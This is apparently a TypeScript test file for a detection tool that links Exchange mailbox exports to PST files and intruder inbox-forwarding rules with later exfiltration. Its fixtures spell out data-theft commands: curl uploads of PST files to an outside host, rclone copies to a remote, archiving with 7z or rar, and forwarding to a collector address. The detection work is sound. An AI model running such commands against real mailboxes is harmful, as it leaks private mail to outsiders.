import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { FindingWithHits } from '../../src/findings/findings.ts'
import { rulesUsed } from '../../src/findings/rules-used.ts'
import { storedFilesMoved } from '../../src/findings/stored-files.ts'

const T = Date.parse('2024-04-20T10:00:00Z')

type Made = {
  readonly at?: number
  readonly fields: Record<string, unknown>
  readonly finding?: Record<string, unknown>
  readonly host?: string | null
  readonly user?: string | null
}

function found({ at = 0, fields, finding = {}, host = 'MAIL01.contoso.example', user = null }: Made): FindingWithHits {
  const time = T + at * 60_000
  const iso = new Date(time).toISOString()
  return {
    finding: {
      stage: 'collection',
      sign: { subject: 'program', kind: 'effect', strength: 'weak' },
      persistence: null,
      means: null,
      log: 'windows-security',
      target: null,
      time: iso,
      first: iso,
      ...finding,
    },
    hits: [{ event: { time, host, user, fields, log: finding.log ?? 'windows-security' } }],
    counts: true,
  } as unknown as FindingWithHits
}

const exportTo = (path: string): FindingWithHits =>
  found({
    fields: { Cmdlet: 'New-MailboxExportRequest', Parameters: `-Mailbox "board" -FilePath "${path}"` },
    finding: { sign: { subject: 'export', kind: 'effect', strength: 'strong' } },
  })
const command = (line: string, more: Partial<Made> = {}): FindingWithHits =>
  found({ at: 30, fields: { CommandLine: line }, ...more })

describe('files of exports', () => {
  const share = String.raw`\\localhost\C$\st\b.pst`

  for (const [name, path, line] of [
    ['the path on the drive', share, String.raw`rclone copy c:\st\B.pst remote:x`],
    ['a share by the name of the server', String.raw`\\MAIL01\c$\st\b.pst`, String.raw`curl -T C:\st\b.pst https://h/`],
    ['the root of the drive', String.raw`\\127.0.0.1\C$\b.pst`, String.raw`curl -F "f=@C:\b.pst" https://h/`],
    ['wildcards', share, String.raw`rar a c:\x.rar C:\st\*.pst`],
    ['the folder', share, String.raw`7z a C:\x.7z "C:\st\"`],
  ] as const)
    it(`belong to commands by ${name}`, () => {
      assert.deepEqual(storedFilesMoved([exportTo(path), command(line)]), [[0, 1]])
    })

  it('belong to what sends an archive of them', () => {
    const packed = command(String.raw`7z a C:\t\k.7z C:\st\b.pst`)
    const context = { ...packed, finding: { ...packed.finding, stage: 'context' as const } }
    const sent = command(String.raw`curl -T C:\t\k.7z https://h/`, { at: 60 })
    assert.deepEqual(storedFilesMoved([exportTo(share), context, sent]), [[0, 2]])
    assert.deepEqual(storedFilesMoved([exportTo(share), packed, sent]), [
      [0, 1],
      [0, 1, 2],
    ])
  })

  for (const [name, path, line, at] of [
    ['of another server', String.raw`\\nas01\c$\st\b.pst`, String.raw`curl -T C:\st\b.pst https://h/`, 30],
    ['of another name', share, String.raw`curl -T C:\st\c.pst https://h/`, 30],
    ['of a whole drive', share, String.raw`robocopy C:\ \\nas01\backup /mir`, 30],
    ['of an earlier time', share, String.raw`curl -T C:\st\b.pst https://h/`, -30],
  ] as const)
    it(`do not belong to commands ${name}`, () => {
      assert.deepEqual(storedFilesMoved([exportTo(path), command(line, { at })]), [])
    })
})

describe('mail that rules of an intruder sent', () => {
  const set = found({
    fields: { Cmdlet: 'New-InboxRule', Parameters: '-Name "x" -Mailbox "ann@contoso.example"' },
    finding: { persistence: 'inbox-rule', stage: 'persistence', log: 'msexchange-management' },
  })
  const sent = (at: number, from: string, to = 'box@collector.example'): FindingWithHits =>
    found({
      at,
      fields: { 'event-id': 'SUBMIT', 'sender-address': from },
      finding: { log: 'message-tracking', accessMethod: 'forwarding', target: to },
    })

  it('belongs to the act that set the rule', () => {
    assert.deepEqual(rulesUsed([set, sent(60, 'ann@contoso.example')]), [[0, 1]])
  })

  it('of others, of before, or to an address of before does not', () => {
    assert.deepEqual(rulesUsed([set, sent(60, 'bea@contoso.example')]), [])
    assert.deepEqual(rulesUsed([set, sent(-60, 'ann@contoso.example'), sent(60, 'ann@contoso.example')]), [])
    assert.deepEqual(rulesUsed([set, sent(60 * 24 * 31, 'ann@contoso.example')]), [])
  })
})
